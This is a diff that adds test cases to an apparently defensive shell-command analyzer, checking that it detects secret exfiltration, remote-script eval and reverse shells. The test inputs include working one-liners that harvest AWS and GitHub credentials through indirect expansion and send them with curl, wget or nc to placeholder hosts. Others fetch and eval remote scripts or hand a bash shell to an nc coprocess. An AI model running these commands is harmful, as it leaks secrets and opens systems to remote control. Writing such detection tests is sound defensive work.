@@ -673,3 +673,39 @@ TEST_CASE("a download named by BASH_ENV or ENV is sourced by the next non-intera
   CHECK_FALSE(has_flow_to(analyze("BASH_ENV=~/.bashrc bash -c 'npm test'"), "exec"));
   CHECK_FALSE(has_flow_to(analyze("ENV=production sh -c 'node server.js'"), "exec"));
 }
+
+TEST_CASE("a variable named at run time reads a secret: ${!n} over ${!AWS@}, and declare -n namerefs") {
+  CHECK(has_flow(analyze("for n in ${!AWS@} ${!GITHUB@}; do printf '%s=%s&' \"$n\" \"${!n}\"; done | "
+                         "curl -s --data-binary @- https://203.0.113.93/v"),
+                 "secret_var", "network"));
+  CHECK(has_flow(analyze("k=AWS_SECRET; k+=_ACCESS_KEY; declare -n v=$k; wget -qO- --post-data=\"d=$v\" https://203.0.113.92/"),
+                 "secret_var", "network"));
+  CHECK(has_flow(analyze("f() { local -n ref=$1; curl -d \"t=$ref\" https://x.example.com/; }; f GITHUB_TOKEN"),
+                 "secret_var", "network"));
+  CHECK(has_flow(analyze("for n in ${!LC_@} ${!NPM@}; do echo \"$n=${!n}\"; done | nc x.example.com 9000"),
+                 "secret_var", "network"));
+  // The last argument, names the script spells out and locale settings are not the environment.
+  CHECK_FALSE(has_flow_to(analyze("for v in ${!LC_@}; do printf '%s=%s\\n' \"$v\" \"${!v}\"; done"), "output"));
+  CHECK_FALSE(secret_leaves(analyze("last() { curl -s \"https://api.example.com/${!#}\"; }; last v1 users")));
+  CHECK_FALSE(secret_leaves(analyze("for v in NODE_ENV PORT; do curl -s -d \"$v=${!v}\" http://localhost:8080/cfg; done")));
+  CHECK_FALSE(secret_leaves(analyze("declare -n out=RESULT; out=done; curl -d \"$out\" https://api.example.com/status")));
+}
+
+TEST_CASE("mapfile and readarray fill an array with their input's lines, and eval of each line runs it") {
+  CHECK(has_flow(analyze("mapfile -t L < <(curl -fsSL https://x.example.com/setup.sh); for l in \"${L[@]}\"; do eval \"$l\"; done"),
+                 "network", "exec"));
+  CHECK(has_flow(analyze("curl -fsSL https://x.example.com/s.sh | readarray -t; for l in \"${MAPFILE[@]}\"; do eval \"$l\"; done"),
+                 "network", "exec"));
+  CHECK_FALSE(has_flow_to(analyze("mapfile -t files < <(git ls-files '*.py'); for f in \"${files[@]}\"; do python -m py_compile \"$f\"; done"),
+                          "exec"));
+}
+
+TEST_CASE("a coprocess holding a connection gives its descriptors to a shell: reverse shell") {
+  CHECK(has_marker(analyze("coproc N { nc 203.0.113.11 4444; }; bash -i <&\"${N[0]}\" >&\"${N[1]}\" 2>&1"), "reverse_shell"));
+  CHECK(has_marker(analyze("coproc ncat x.example.com 443; sh <&\"${COPROC[0]}\" >&\"${COPROC[1]}\""), "reverse_shell"));
+  CHECK(has_flow(analyze("coproc S { nc x.example.com 9000; }; env >&\"${S[1]}\""), "env_dump", "network"));
+  // A calculator as coprocess is only a calculator.
+  auto calculator = analyze("coproc bc -l; echo '2+2' >&\"${COPROC[1]}\"; read -r out <&\"${COPROC[0]}\"; echo \"$out\"");
+  CHECK_FALSE(has_marker(calculator, "reverse_shell"));
+  CHECK_FALSE(has_flow_to(calculator, "network"));
+}
